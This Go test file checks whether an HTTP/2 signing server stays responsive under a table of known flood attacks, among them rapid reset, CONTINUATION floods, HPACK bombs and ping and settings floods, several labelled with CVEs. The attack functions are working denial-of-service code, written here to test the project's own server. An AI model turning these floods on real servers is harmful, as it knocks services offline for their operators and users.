package attack_test

import (
	"errors"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
)

// flood is a way to keep a server of HTTP/2 busy for little. send goes on until the
// server hangs up, or until all is sent, which must not cost the server anything.
type flood struct {
	send func(c *h2, at string) error
	// unread says that the sender takes in nothing of what is answered.
	unread bool
	// endless says that the server has to hang up.
	endless bool
}

// oddStream is the n-th stream that a client may open.
func oddStream(n int) uint32 { return uint32(2*n + 1) }

// repeat does one thing so often, or until the server has hung up.
func repeat(times int, once func(n int) error) error {
	for n := range times {
		if err := once(n); err != nil {
			return err
		}
	}
	return nil
}

var floods = map[string]flood{ // never changed
	"rapid reset": {send: func(c *h2, at string) error { // CVE-2023-44487
		return repeat(20_000, func(n int) error {
			if err := c.head(oddStream(n), fields(pseudo(http.MethodGet, at, "/healthz")...), true); err != nil {
				return err
			}
			return c.WriteRSTStream(oddStream(n), http2.ErrCodeCancel)
		})
	}},
	"reset by the server": {send: func(c *h2, at string) error { // CVE-2025-8671
		return repeat(20_000, func(n int) error {
			if err := c.head(oddStream(n), fields(pseudo(http.MethodPost, at, "/jssdk/config")...), false); err != nil {
				return err
			}
			return c.WriteWindowUpdate(oddStream(n), 1<<31-1) // more than a window holds
		})
	}},
	"continuation": {endless: true, send: func(c *h2, at string) error { // CVE-2023-45288
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(pseudo(http.MethodGet, at, "/")...)}); err != nil {
			return err
		}
		more := fields("x", strings.Repeat("b", 15<<10))
		return repeat(8_000, func(int) error { return c.WriteContinuation(1, false, more) })
	}},
	"empty continuation": {send: func(c *h2, at string) error {
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(pseudo(http.MethodGet, at, "/")...)}); err != nil {
			return err
		}
		return repeat(50_000, func(int) error { return c.WriteContinuation(1, false, nil) })
	}},
	"HPACK bomb": {send: func(c *h2, at string) error { // one entry of 3,900 bytes, 16,000 times by one byte each
		block := append(fields(append(pseudo(http.MethodGet, at, "/healthz"), "x", strings.Repeat("b", 3_900))...),
			[]byte(strings.Repeat("\xbe", 16_000))...)
		return repeat(200, func(n int) error { return c.head(oddStream(n), block, true) })
	}},
	"ping": {unread: true, endless: true, send: func(c *h2, _ string) error { // CVE-2019-9512
		return repeat(3_000_000, func(int) error { return c.WritePing(false, [8]byte{}) })
	}},
	"settings": {unread: true, send: func(c *h2, _ string) error { // CVE-2019-9515
		return repeat(100_000, func(int) error { return c.WriteSettings() })
	}},
	"priority": {send: func(c *h2, _ string) error {
		return repeat(50_000, func(n int) error {
			return c.WritePriority(oddStream(n), http2.PriorityParam{StreamDep: oddStream(n + 1)})
		})
	}},
	"empty data": {send: func(c *h2, at string) error { // CVE-2019-9518
		if err := c.head(1, fields(pseudo(http.MethodPost, at, "/jssdk/config")...), false); err != nil {
			return err
		}
		return repeat(50_000, func(int) error { return c.WriteData(1, false, nil) })
	}},
	"window overflow": {endless: true, send: func(c *h2, _ string) error {
		return repeat(10_000, func(int) error { return c.WriteWindowUpdate(0, 1<<31-1) })
	}},
	"frame of 16 MiB": {endless: true, send: func(c *h2, _ string) error {
		if _, err := c.conn.Write([]byte{0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1}); err != nil { // DATA, of that length
			return err
		}
		part := make([]byte, 16<<10)
		return repeat(1_024, func(int) error { _, err := c.conn.Write(part); return err })
	}},
	"unknown frames": {send: func(c *h2, _ string) error {
		return repeat(50_000, func(int) error { return c.WriteRawFrame(0xee, 0xff, 0, []byte("x")) })
	}},
	"streams that never end": {send: func(c *h2, at string) error {
		return repeat(1_000, func(n int) error {
			return c.head(oddStream(n), fields(pseudo(http.MethodPost, at, "/jssdk/config")...), false)
		})
	}},
}

// Floods of HTTP/2 on the listener that faces the internet: pages are signed all the
// while, and when they are over wxsign is as small as before.
func TestFloods(t *testing.T) {
	t.Parallel()
	s := secured(t, newPlace(t, shipped(t), underAttack...)).serve()
	waitFor(t, "a signature", func() bool { status, _ := s.sign(demoApp, page); return status == http.StatusOK })
	at := hostOf(s.pages)
	before := measure(s)
	for name, f := range floods {
		begin := time.Now()
		ended := make(chan error, 1)
		go func() { ended <- f.run(s, at) }()
		signed := 0
		var err error
		for over := false; !over; signed++ {
			select {
			case err = <-ended:
				over = true
			default:
			}
			if status, answer := s.sign(demoApp, page); status != http.StatusOK {
				t.Errorf("under %s, a page got status %d, %+v", name, status, answer)
			}
		}
		t.Logf("%s: %d pages were signed in %s; it ended with %v", name, signed, time.Since(begin).Round(time.Millisecond), err)
		if f.endless && err == nil {
			t.Errorf("%s: the server took all of it", name)
		}
	}
	after := settle(t, s, before)
	t.Logf("heap %d KiB, %d after; goroutines %d, %d after", before.heap>>10, after.heap>>10, before.goroutines, after.goroutines)
}

// run is one flood over one connection; the error is what it ended with, nil if
// the server has taken all.
func (f flood) run(s *server, at string) error {
	window := uint32(1 << 20)
	if f.unread {
		window = 1 << 30
	}
	c, err := openH2(at, s.trust, window)
	if err != nil {
		return err
	}
	var reading sync.WaitGroup
	var ended error
	reading.Go(func() {
		for ended == nil && !f.unread {
			_, ended = c.ReadFrame()
		}
	})
	err = f.send(c, at)
	if err == nil && f.endless { // it may have hung up while the last of it was on its way
		reading.Wait()
		if err = ended; errors.Is(err, os.ErrDeadlineExceeded) {
			err = nil
		}
	}
	_ = c.conn.Close()
	reading.Wait()
	return err
}
